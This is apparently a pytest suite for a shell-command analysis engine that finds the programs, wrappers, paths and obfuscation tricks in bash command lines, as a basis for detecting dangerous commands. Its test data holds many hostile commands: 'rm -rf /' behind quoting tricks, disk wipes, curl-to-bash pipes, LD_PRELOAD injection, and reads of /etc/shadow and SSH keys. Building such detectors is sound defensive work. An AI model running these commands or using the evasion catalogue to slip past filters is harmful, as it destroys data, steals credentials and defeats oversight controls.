"""Shell facts (engine/facts/shell*.py): what a command line runs, through bash's syntax and
the wrappers, and the tricks that would hide a program from them."""

from __future__ import annotations

import time
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from engine.facts import enrich_command, shell_command_facts
from engine.facts.shell import MAX_DEPTH, shell_facts
from engine.facts.shell_words import ansi_c


def facts(raw: str) -> dict[str, Any]:
    result = shell_facts(raw)
    assert result["parse_error"] is None, result["parse_error"]
    return result


def commands(raw: str) -> list[tuple[str | None, list[str], bool]]:
    return [(c["program"], c["argv"], c["sudo"]) for c in facts(raw)["commands"]]


# --- syntax: every command of the text is seen -------------------------------------------

@pytest.mark.parametrize(("raw", "programs"), [
    ("a | b | c", ["a", "b", "c"]),
    ("a && b || c; d & e", ["a", "b", "c", "d", "e"]),
    ("(a; b) | { c && d; }", ["a", "b", "c", "d"]),
    ("echo $(rm -rf /) `id`", ["echo", "rm", "id"]),
    ('echo "$(whoami)"', ["echo", "whoami"]),
    ("echo ${X:-$(rm x)}", ["echo", "rm"]),
    ("cat <(rm -rf /) >(tee x)", ["cat", "rm", "tee"]),
    ("if true; then rm -rf /; fi", ["true", "rm"]),
    ("for i in 1 2; do rm $i; done", ["rm"]),
    ("while read l; do echo $l; done < f", ["read", "echo"]),
    ("case x in a) rm -rf /;; esac", ["rm"]),
    ("[[ -f x ]] && rm x", ["rm"]),
    ("f() { rm -rf /; }; f", ["rm", "f"]),
    ("! rm x", ["rm"]),
    ("echo $(( $(id -u) + 1 ))", ["echo", "id"]),
    ("cat <<EOF\n$(rm -rf /)\nEOF", ["cat", "rm"]),
    ("export X=$(id) Y", ["export", "id"]),
    ("a=(1 2); rm a", ["rm"]),
    ("echo x # ; rm -rf /", ["echo"]),
])
def test_every_command_is_seen(raw: str, programs: list[str]) -> None:
    assert facts(raw)["programs"] == programs


def test_first_command_is_argv_and_program() -> None:
    result = facts("FOO=1 /usr/bin/rm -rf /tmp/x && ls | wc -l")
    assert result["argv"] == ["/usr/bin/rm", "-rf", "/tmp/x"]
    assert result["program"] == "rm"  # the directory is dropped from the name
    assert result["programs"] == ["rm", "ls", "wc"]


def test_redirections_are_facts_of_their_command() -> None:
    result = facts("dd if=/dev/zero bs=1M > /dev/sda 2>&1")
    assert result["commands"][0]["redirects"] == [
        {"op": ">", "fd": None, "target": "/dev/sda", "target_known": True, "path": "/dev/sda"},
        {"op": ">&", "fd": 2, "target": "1", "target_known": True, "path": "1"}]
    assert {r["target"] for r in result["redirects"]} == {"/dev/sda", "1"}


def test_words_after_a_redirection_belong_to_the_command() -> None:
    # tree-sitter-bash reads `b` as a second target; bash gives it to echo
    assert commands("echo a >f b") == [("echo", ["echo", "a", "b"], False)]
    assert commands(">/dev/null rm -rf /") == [("rm", ["rm", "-rf", "/"], False)]
    assert commands("x | y >f -rf /")[1] == ("y", ["y", "-rf", "/"], False)


def test_a_redirection_of_a_group_applies_to_its_commands() -> None:
    result = facts("{ a; b; } > /dev/sda")
    assert [c["redirects"][0]["target"] for c in result["commands"]] == ["/dev/sda"] * 2


# --- quoting: the value bash gives the program --------------------------------------------

@pytest.mark.parametrize("raw", [
    "rm -rf /", "r''m -rf /", 'r""m -rf /', "\\rm -rf /", "'rm' -rf /", "$'\\x72m' -rf /",
    "$'\\162m' -rf /", "$'\\u0072m' -rf /", "$'r\\x6d' -rf /", '"r"m -rf /',
    "$'rm\\x00junk' -rf /",
])
def test_quoting_does_not_hide_the_program(raw: str) -> None:
    assert commands(raw) == [("rm", ["rm", "-rf", "/"], False)]


def test_ansi_c_decoding() -> None:
    assert ansi_c(r"a\tb\n\x41\101\u00e9\cA\\\'") == "a\tb\nAA\u00e9\x01\\'"
    assert ansi_c(r"\q") == r"\q"
    assert ansi_c(r"\ud800") is None  # a lone surrogate: not known with certainty


def test_double_quotes_keep_backslashes_bash_keeps() -> None:
    assert facts(r'echo "a\$b\"c\d"')["argv"] == ["echo", 'a$b"c\\d']


# --- what the text cannot show is said so ---------------------------------------------------

@pytest.mark.parametrize(("raw", "reason"), [
    ("$X -rf /", "not known until run time"),
    ("X=rm; $X -rf /", "not known until run time"),
    ("rm${IFS}-rf${IFS}/", "not known until run time"),
    ("$(echo rm) -rf /", "not known until run time"),
    ("`echo rm` -rf /", "not known until run time"),
    ("/bin/r? -rf /", "not known until run time"),
    ("/bin/r[m] -rf /", "not known until run time"),
    ("r{m,} -rf /", "not known until run time"),
    ("eval $CMD", "not known until run time"),
    ('bash -c "$CMD"', "not known until run time"),
    ("python3 -c 'import os; os.system(\"rm -rf /\")'", "python3 -c"),
    ("python -Ec 'x'", "python -c"),
    ("python3", "reads its program"),
    ("echo 'import os' | python3 -", "reads its program"),
    ("perl -e 'unlink glob \"/*\"'", "perl '-e'"),
    ("perl -ne 'print' f", "perl '-ne'"),
    ("ruby -e 'x'", "ruby '-e'"),
    ("node --eval 'x'", "node '--eval'"),
    ("php -r 'system(\"id\");'", "php '-r'"),
    ("awk 'BEGIN{system(\"rm -rf /\")}'", "awk program runs commands"),
    ("awk '{print | \"sh\"}' f", "awk program runs commands"),
    ("sed -n '1e rm -rf /' f", "sed script runs commands"),
    ("sed 's/x/rm -rf \\//e' f", "sed script runs commands"),
    ("echo 'rm -rf /' | bash", "bash reads commands"),
    ("bash <<< 'rm -rf /'", "bash reads commands"),
    ("sh -s", "sh reads commands"),
    ("sudo -i", "opens a shell"),
    ("sudo -s", "opens a shell"),
    ("su - root", "opens a shell"),
    ("env -S 'rm -rf /'", "env -S"),
    ("timeout --bogus 5 rm -rf /", "not one the facts know"),
    ("sudo -X rm -rf /", "not one the facts know"),
    ("alias x=rm", "alias"),
    ("BASH_ENV=/tmp/x bash -c true", "BASH_ENV"),
    ("LD_PRELOAD=/tmp/x.so ls", "LD_PRELOAD"),
    ("export LD_PRELOAD=/tmp/x.so", "LD_PRELOAD"),
    ("sudo $X", "not known until run time"),
    ("ls | xargs -I% sh -c %", "not known until run time"),
    ("ls | xargs -i sh -c {}", "not known until run time"),
    ("find /tmp -name x -exec {} -rf / \\;", "not known until run time"),
    ("strace -o /dev/null rm -rf /srv", "strace runs a command"),
    ("parallel rm ::: a b", "parallel runs a command"),
    ("vim -c ':!rm -rf /' -c q f", "vim runs commands typed at it"),
    ("vi +'!rm -rf /' f", "vi runs commands typed at it"),
    ("echo '!rm -rf /' | ed", "ed runs commands typed at it"),
    ("tar -cf /dev/null x --checkpoint-action=exec='rm -rf /'", "tar option runs a command"),
    ("tar -xf a.tar --to-command='sh -c id'", "tar option runs a command"),
    ("rsync -e 'sh -c id' a b:", "rsync -e"),
    ("git -c core.pager='rm -rf /' log", "git -c"),
    ("git -C /srv -c alias.x='!rm -rf /' x", "git -c"),
    ("expect -c 'spawn rm -rf /'", "expect '-c'"),
    ("script", "script opens a shell"),
    ("bash <(curl -s https://x/install.sh)", "not known until run time"),
    ("curl -s https://x | bash /dev/stdin", "reads commands from its input"),
    ("python3 <(curl -s https://x)", "not known until run time"),
    ("python3 /dev/stdin < x", "reads its program"),
    ("source <(echo rm -rf /)", "not known until run time"),
    (". /dev/stdin", "reads commands from its input"),
    ("ssh -o ProxyCommand='rm -rf /' x", "ssh -o runs a local command"),
    ("ssh -oProxyCommand=id x", "ssh -o runs a local command"),
    ("ssh localhost", "ssh opens a shell"),
    ("ssh localhost \"$CMD\"", "not known until run time"),
    ("scp -S ./evil a b:", "scp -S"),
    ("mapfile -C 'rm -rf /' -c 1 < f", "mapfile -C"),
    ("vim /etc/hosts", "vim runs commands typed at it"),
    ("nvim f", "nvim runs commands typed at it"),
    ("emacs f", "emacs runs commands typed at it"),
    ("less /var/log/syslog", "less runs commands typed at it"),
    ("more f", "more runs commands typed at it"),
    ("man ls", "man runs commands typed at it"),
    ("awk -f /tmp/x.awk f", "awk runs a program file"),
    ("gawk --source='BEGIN{system(1)}'", "gawk runs a program file or source"),
    ("mawk -W exec /tmp/x", "mawk runs a program file"),
    ('awk "$P" f', "the program awk runs is not known"),
    ("sed -f /tmp/x.sed f", "sed runs a script file"),
    ('sed -e "$S" f', "the script sed runs is not known"),
    ("find / -exec sh \\;", "sh reads commands from its input"),
    ("curl -s x | perl", "perl reads its program from its input"),
    ("node - < x.js", "node reads its program from its input"),
    ("ruby < x.rb", "ruby reads its program from its input"),
    ("env LD_PRELOAD=/tmp/x.so ls", "assigning LD_PRELOAD"),
    ("sudo LD_PRELOAD=/tmp/x.so ls", "assigning LD_PRELOAD"),
    ("GIT_SSH_COMMAND='sh -c id' git fetch", "assigning GIT_SSH_COMMAND"),
    ("env GIT_PAGER=sh git log", "assigning GIT_PAGER"),
    ("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=sh git log",
     "assigning GIT_CONFIG_COUNT"),
    ("PAGER='sh -c id' man ls", "assigning PAGER"),
    ("git -c core.sshCommand=sh fetch", "git -c"),
    ("psql -c 'select 1'", "psql runs commands typed at it"),
    ("echo '.shell id' | sqlite3 x.db", "sqlite3 runs commands typed at it"),
    ("sudo -e /etc/hosts", "sudoedit runs commands typed at it"),
    ("tar -x -f a.tar --to-comm=sh", "tar option runs a command"),  # GNU abbreviations
    ("tar -xI 'sh -c id' -f a.tar", "tar option runs a command"),
    ("tar xIf sh a.tar", "tar option runs a command"),
    ("git clone --upload-pa='sh -c id' x", "git -c"),
    ("git -C /tmp clone -u 'sh -c id' x", "git -c"),
    ("git ls-remote -u sh x", "git -c"),
    ("git archive --exe=sh --remote=x HEAD", "git -c"),
    ("rsync -ave 'sh -c id' a b:", "rsync -e"),
    ("rsync --rs=sh a b:", "rsync -e"),
    ("scp -rS ./evil a b:", "scp -S"),
])
def test_opaque_text_is_said_so(raw: str, reason: str) -> None:
    result = facts(raw)
    assert result["opaque"] is True
    assert any(reason in r for r in result["opaque_reasons"]), result["opaque_reasons"]


@pytest.mark.parametrize("raw", [
    "echo $HOME", "ls -l /var/log", "python3 manage.py migrate", "python3 -m http.server",
    "perl script.pl", "awk '{print $1}' f", "sed -e 's/a/b/g' f", "bash deploy.sh",
    "systemctl restart app", "grep -r 'x' .", "sudo -l", "env", "xargs",
    "git push -u origin main", "git -C /srv log -n 3", "tar -czf a.tgz dir", "tar xzf a.tgz",
    "git log --reverse", "tar --totals -cf a.tar d", "rsync -a a b",
    "ls | xargs -I{} echo {}", "source ~/.profile", ". ./env.sh", "bash -x run.sh",
    "scp a b:/tmp/", "ssh db2 uptime", "rsync --server -e.LsfxCIvu -logDtpre.iLsfxCIvu . /tmp/x",
    "scp -t /tmp/x", "git-upload-pack '/srv/repo.git'",
])
def test_ordinary_commands_are_not_opaque(raw: str) -> None:
    assert facts(raw)["opaque"] is False


# --- wrappers are unwrapped ----------------------------------------------------------------

@pytest.mark.parametrize(("raw", "expected"), [
    ('sudo bash -c "rm -rf /srv"', ("rm", ["rm", "-rf", "/srv"], True)),
    ("sudo -u postgres -E -- rm -r /x", ("rm", ["rm", "-r", "/x"], True)),
    ("sudo -uroot rm -r /x", ("rm", ["rm", "-r", "/x"], True)),
    ("sudo FOO=1 rm -r /x", ("rm", ["rm", "-r", "/x"], True)),
    ("sudo --user=root rm -r /x", ("rm", ["rm", "-r", "/x"], True)),
    ("env -i -- A=1 rm -r /x", ("rm", ["rm", "-r", "/x"], False)),
    ("env -u HOME rm -r /x", ("rm", ["rm", "-r", "/x"], False)),
    ("sh -c 'rm -r /x'", ("rm", ["rm", "-r", "/x"], False)),
    ("bash -lc 'rm -r /x'", ("rm", ["rm", "-r", "/x"], False)),
    ("zsh -c 'rm -r /x' name arg", ("rm", ["rm", "-r", "/x"], False)),
    ("dash -e -c 'rm -r /x'", ("rm", ["rm", "-r", "/x"], False)),
    ("bash -o pipefail -c 'rm -r /x'", ("rm", ["rm", "-r", "/x"], False)),
    ("/bin/sh -c 'sudo sh -c \"rm -r /x\"'", ("rm", ["rm", "-r", "/x"], True)),
    ("nohup rm -r /x &", ("rm", ["rm", "-r", "/x"], False)),
    ("timeout 5 rm -r /x", ("rm", ["rm", "-r", "/x"], False)),
    ("timeout -s KILL -k 2 5 rm -r /x", ("rm", ["rm", "-r", "/x"], False)),
    ("nice -n 10 rm -r /x", ("rm", ["rm", "-r", "/x"], False)),
    ("nice -10 rm -r /x", ("rm", ["rm", "-r", "/x"], False)),
    ("exec rm -r /x", ("rm", ["rm", "-r", "/x"], False)),
    ("exec -a name rm -r /x", ("rm", ["rm", "-r", "/x"], False)),
    ("command rm -r /x", ("rm", ["rm", "-r", "/x"], False)),
    ("command -p rm -r /x", ("rm", ["rm", "-r", "/x"], False)),
    ("builtin eval 'rm -r /x'", ("rm", ["rm", "-r", "/x"], False)),
    ("busybox rm -r /x", ("rm", ["rm", "-r", "/x"], False)),
    ("busybox sh -c 'rm -r /x'", ("rm", ["rm", "-r", "/x"], False)),
    ("time rm -r /x", ("rm", ["rm", "-r", "/x"], False)),
    ("time -p rm -r /x", ("rm", ["rm", "-r", "/x"], False)),
    ("eval 'rm -r /x'", ("rm", ["rm", "-r", "/x"], False)),
    ("eval rm -r /x", ("rm", ["rm", "-r", "/x"], False)),
    ("su -c 'rm -r /x' root", ("rm", ["rm", "-r", "/x"], True)),
    ("su root -c 'rm -r /x'", ("rm", ["rm", "-r", "/x"], True)),
    ("runuser -u app -- rm -r /x", ("rm", ["rm", "-r", "/x"], True)),
    ("doas -u root rm -r /x", ("rm", ["rm", "-r", "/x"], True)),
    ("stdbuf -oL rm -r /x", ("rm", ["rm", "-r", "/x"], False)),
    ("setsid -f rm -r /x", ("rm", ["rm", "-r", "/x"], False)),
    ("ionice -c3 rm -r /x", ("rm", ["rm", "-r", "/x"], False)),
    ("chroot /srv rm -r /x", ("rm", ["rm", "-r", "/x"], False)),
    ("watch -n 5 rm -r /x", ("rm", ["rm", "-r", "/x"], False)),
    ("trap 'rm -r /x' EXIT", ("rm", ["rm", "-r", "/x"], False)),
    ("script -qc 'rm -r /x' /dev/null", ("rm", ["rm", "-r", "/x"], False)),
    ("ssh localhost rm -r /x", ("rm", ["rm", "-r", "/x"], False)),
    ("ssh -p 22 -i k -o BatchMode=yes db2 'sudo rm -r /x'", ("rm", ["rm", "-r", "/x"], True)),
    ("toybox rm -r /x", ("rm", ["rm", "-r", "/x"], False)),
    ("find . -exec sh -c 'rm -r /x' _ {} \\;", ("rm", ["rm", "-r", "/x"], False)),
    ("sudo env timeout 5 nice nohup bash -c 'exec rm -r /x'", ("rm", ["rm", "-r", "/x"], True)),
])
def test_wrappers_are_unwrapped(raw: str, expected: tuple[str, list[str], bool]) -> None:
    result = facts(raw)
    innermost = [c for c in result["commands"] if c["program"] == expected[0]]
    assert innermost, result["commands"]
    assert (innermost[0]["program"], innermost[0]["argv"], innermost[0]["sudo"]) == expected
    assert result["opaque"] is False, result["opaque_reasons"]


def test_the_wrappers_are_programs_and_the_via_of_the_command() -> None:
    result = facts('sudo bash -c "rm -rf /srv"')
    assert result["programs"] == ["sudo", "bash", "rm"]
    assert result["argv"] == ["rm", "-rf", "/srv"] and result["program"] == "rm"
    assert result["commands"][0]["via"] == ["sudo", "bash"]


def test_xargs_and_find_exec_show_the_command_they_run() -> None:
    assert commands("ls | xargs -0 -n1 rm -rf")[1] == ("rm", ["rm", "-rf"], False)
    assert commands("ls | xargs -I{} rm -rf {}")[1] == ("rm", ["rm", "-rf", "{}"], False)
    found = commands("find / -name '*.log' -exec rm -rf {} \\; -execdir shred {} +")
    assert [c[0] for c in found] == ["find", "rm", "shred"]
    assert found[1] == ("rm", ["rm", "-rf", "{}"], False)
    assert commands("sudo find / -exec rm {} +")[1] == ("rm", ["rm", "{}"], True)


def test_sudo_edit_is_sudoedit() -> None:
    result = facts("sudo -e /etc/shadow")
    assert result["program"] == "sudoedit" and result["commands"][0]["sudo"]
    assert "/etc/shadow" in result["paths"]


# --- paths ---------------------------------------------------------------------------------

def test_paths_are_normalised_and_found_in_option_values() -> None:
    result = facts("cat /etc//./shadow && dd of=/dev/sda && curl -F f=@/etc/gshadow x "
                   "&& scp host:/root/.ssh/id_rsa . && cp --target-directory=/tmp/k a")
    for path in ("/etc/shadow", "/dev/sda", "/etc/gshadow", "/root/.ssh/id_rsa", "/tmp/k"):
        assert path in result["paths"]


def test_words_not_known_until_run_time_give_patterns() -> None:
    result = facts('cat "$HOME/.ssh/id_rsa" /etc/sha* /etc/shado[w] /etc/{shadow,x}')
    assert result["path_patterns"] == ["*/.ssh/id_rsa", "/etc/sha*", "/etc/shado?",
                                       "/etc/*"]


def test_assigned_values_are_paths_too() -> None:
    assert "/etc/shadow" in facts("F=/etc/shadow; cat $F")["paths"]


def test_quoted_glob_characters_are_escaped_in_patterns() -> None:
    result = facts("echo '*' \"$X*\"")
    assert result["path_patterns"] == ["*\\*"]


# --- errors and limits -----------------------------------------------------------------------

@pytest.mark.parametrize("raw", [
    "echo 'unterminated", 'echo "x', "echo $(", "if true; then", "a &&", "( a", "a | | b",
    "ls &; rm", "echo `x", "{ a", "case x in",
])
def test_what_bash_would_refuse_is_a_parse_error(raw: str) -> None:
    result = shell_facts(raw)
    assert result["parse_error"] and "syntax error" in result["parse_error"]
    assert result["programs"] == [] and result["commands"] == []


def test_nesting_past_the_depth_limit_is_a_parse_error() -> None:
    raw = "rm -r /x"
    for _ in range(MAX_DEPTH + 1):
        raw = "sh -c " + "'" + raw.replace("'", "'\\''") + "'"
    assert "nested deeper" in shell_facts(raw)["parse_error"]


def test_deep_substitutions_do_not_crash() -> None:
    raw = "echo " + "$(" * 3000 + "x" + ")" * 3000
    assert "more than" in shell_facts(raw)["parse_error"] or \
        "too complex" in shell_facts(raw)["parse_error"]
    assert shell_facts("echo " + "$(" * 500 + "x" + ")" * 500)["programs"][-1] == "x"


def test_bash_braces_tree_sitter_refuses_are_parse_errors() -> None:
    # bash runs `{rm,-rf,/}` as `rm -rf /`; the grammar refuses it: a parse error, not an allow
    assert shell_facts("{rm,-rf,/}")["parse_error"]


def test_a_line_continuation_inside_a_word_is_a_parse_error() -> None:
    assert "line continuation" in shell_facts("r\\\nm -rf /")["parse_error"]
    assert facts("rm \\\n  -rf /x")["argv"] == ["rm", "-rf", "/x"]


def test_many_commands_past_the_limit_is_a_parse_error() -> None:
    assert "more than" in shell_facts("a;" * 1500)["parse_error"]
    assert "too complex" in shell_facts("a;" * 12000)["parse_error"]
    assert "too long" in shell_facts("echo " + "x" * 40_000)["parse_error"]


def test_big_command_lines_are_answered_quickly() -> None:
    for raw in ("echo " + "x " * 16_000, "echo $((" + "1+" * 10_000 + "1))", "{a" * 16_000,
                "[" * 32_000, "a;" * 16_000, "$(" * 8000 + ")" * 8000):
        started = time.monotonic()
        shell_facts(raw)
        assert time.monotonic() - started < 3.0, raw[:20]


def test_characters_beyond_the_bmp_are_never_parsed() -> None:
    # tree-sitter-bash crashes the process (SIGSEGV) on `{` then a 4-byte UTF-8 character
    for raw in ("{\U00031860", "{\U0009b8c5", "echo {a} \U0001f600", "x\U000e0001"):
        assert "beyond U+FFFF" in shell_facts(raw)["parse_error"]
    assert facts("echo {a} é € 漢")["programs"] == ["echo"]


def test_nul_is_a_parse_error() -> None:
    assert "NUL" in shell_facts("rm\0 -rf /")["parse_error"]


def test_enrich_command_for_ssh() -> None:
    command = enrich_command({"protocol": "ssh", "raw": "sudo rm -rf /srv"}, {})
    assert command["program"] == "rm" and command["commands"][0]["sudo"] is True
    assert enrich_command({"protocol": "ssh", "raw": 5}, {})["parse_error"]
    assert enrich_command({"protocol": "ssh", "request": "exec"}, {})["parse_error"]


PTY = {"term": "xterm", "width": 80, "height": 24}


def pty_exec(raw: str) -> dict[str, Any]:
    return enrich_command({"protocol": "ssh", "request": "exec", "raw": raw, "pty": PTY}, {})


@pytest.mark.parametrize("raw", ["bash", "bash -l", "sudo -i", "sudo bash", "su -", "python3",
                                 "exec zsh"])
def test_a_shell_on_a_terminal_is_interactive_not_opaque(raw: str) -> None:
    without = enrich_command({"protocol": "ssh", "request": "exec", "raw": raw}, {})
    assert without["opaque"] is True and without["interactive"] is False
    result = pty_exec(raw)
    assert result["interactive"] is True and result["opaque"] is False, result
    assert result["commands"][0]["reads_input"] is True


def test_a_root_shell_is_run_through_sudo() -> None:
    assert pty_exec("sudo -i")["commands"][0]["sudo"] is True
    assert pty_exec("su -")["commands"][0]["sudo"] is True


@pytest.mark.parametrize("raw", ["echo rm -rf / | bash", "bash <<< 'rm -rf /'", "bash < f",
                                 "cd /srv && bash", "LD_PRELOAD=/x.so bash", "ssh other",
                                 "vim f", "bash <(curl -s x)", "X=bash; $X"])
def test_a_terminal_does_not_clear_what_else_is_opaque(raw: str) -> None:
    result = pty_exec(raw)
    assert result["interactive"] is True and result["opaque"] is True, result


def test_an_exec_with_a_pty_keeps_its_command_facts() -> None:
    result = pty_exec("sudo rm -rf /srv")
    assert result["interactive"] is True and result["program"] == "rm"
    assert result["commands"][0]["sudo"] is True and result["opaque"] is False
    assert shell_command_facts("bash")["opaque"] is True  # the cached facts are not changed
    assert pty_exec("echo 'unterminated")["parse_error"]


def test_the_request_decides_which_facts() -> None:
    # an adapter's `raw` on a shell or SFTP request does not replace their facts
    shell = enrich_command({"protocol": "ssh", "request": "shell", "raw": "true"}, {})
    assert shell["interactive"] is True and shell["programs"] == []
    sftp = enrich_command({"protocol": "ssh", "request": "sftp", "raw": "ls",
                           "sftp": {"op": "open", "path": "/etc//shadow", "mode": "read"}}, {})
    assert sftp["paths"] == ["/etc/shadow"]
    claimed = enrich_command({"protocol": "ssh", "raw": "rm -rf /", "programs": ["ls"],
                              "opaque": False, "interactive": True}, {})
    assert claimed["programs"] == ["rm"] and claimed["interactive"] is False
    unknown = enrich_command({"protocol": "ssh", "request": "tunnel"}, {})
    assert "command.request must be one of" in unknown["parse_error"]
    assert enrich_command({"protocol": "ssh", "raw": None}, {})["parse_error"]


def test_an_oversized_command_line_is_not_parsed() -> None:
    result = shell_command_facts("echo " + "a" * 300_000)
    assert "too large" in result["parse_error"] and result["commands"] == []


# --- nothing a generator makes raises or hangs ------------------------------------------------

_SHELLISH = st.text(alphabet=st.one_of(st.sampled_from(list(
    "abrm -;|&()<>{}$`'\"\\*?[]=#!~\n\t0x")),
                                        st.characters()), max_size=300)


@settings(max_examples=400, deadline=None)
@given(_SHELLISH)
def test_no_command_line_raises_or_hangs(raw: str) -> None:
    started = time.monotonic()
    result = shell_facts(raw)
    assert time.monotonic() - started < 2.0
    assert set(result) >= {"argv", "program", "programs", "commands", "opaque", "paths",
                           "parse_error"}
    if result["parse_error"] is None:
        assert all(isinstance(p, str) for p in result["programs"])
        for command in result["commands"]:
            assert command["opaque"] or command["program"] is not None


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(["sudo", "env", "-i", "sh", "-c", "bash", "'rm -rf /'", "eval",
                                 "xargs", "timeout", "5", "nice", "-n", "exec", "command", "--",
                                 "FOO=1", "find", "-exec", ";", "\\;", "{}", "|", "&&", "$X",
                                 "su", "busybox", "time", "-u", "root", "nohup", "rm", "-rf"]),
                max_size=14))
def test_wrapper_soup_never_raises(words: list[str]) -> None:
    result = shell_facts(" ".join(words))
    assert result["parse_error"] is None or isinstance(result["parse_error"], str)
